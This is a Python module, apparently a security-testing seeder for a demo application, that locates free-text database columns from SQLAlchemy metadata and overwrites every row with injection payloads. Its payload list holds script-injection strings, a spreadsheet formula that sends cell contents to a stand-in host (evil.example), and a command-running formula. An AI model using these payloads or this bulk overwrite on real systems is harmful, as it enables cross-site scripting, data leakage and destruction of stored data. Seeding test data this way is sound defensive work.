"""Script and formula payloads written into every free-text column of the demo, found from
the models' metadata (ids, keys, e-mails, enumerations and unique or short columns left
out), as the tables' owner."""

from __future__ import annotations

import re

from sqlalchemy import CheckConstraint, String, Table, UniqueConstraint, text

from app.extensions import db

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("https://evil.example/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)
# Tables of machinery rather than of what people typed.
NOT_TYPED = {"audit_log", "cross_tenant_reads", "jobs", "api_tokens", "alembic_version"}
NOT_FREE_TEXT = re.compile(
    r"(^id$|_id$|_key$|_hash$|email|slug|url|website|search_name|token|timezone|locale)"
)


def free_text_columns() -> list[tuple[Table, str]]:
    return [
        (table, column.name)
        for table in db.metadata.sorted_tables
        if table.name not in NOT_TYPED
        for column in table.columns
        if _is_free_text(table, column)
    ]


def _is_free_text(table: Table, column) -> bool:
    if not isinstance(column.type, String) or column.primary_key or column.foreign_keys:
        return False
    if NOT_FREE_TEXT.search(column.name) or column.unique:
        return False
    if column.type.length is not None and column.type.length < 60:
        return False  # codes, numbers, phone numbers, enumerations
    for constraint in table.constraints:
        if isinstance(constraint, UniqueConstraint) and column.name in constraint.columns:
            return False
        if isinstance(constraint, CheckConstraint) and f"{column.name} IN" in str(
            constraint.sqltext
        ):
            return False
    return not any(index.unique and column.name in index.columns for index in table.indexes)


def plant_payloads(engine) -> list[str]:
    """Every free-text column of every row gets one payload, in turn; the columns written."""
    written = []
    with engine.begin() as connection:
        for number, (table, column) in enumerate(free_text_columns()):
            payload = PAYLOADS[number % len(PAYLOADS)]
            connection.execute(
                text(f"UPDATE {table.name} SET {column} = :payload"), {"payload": payload}
            )
            written.append(f"{table.name}.{column}")
    return written
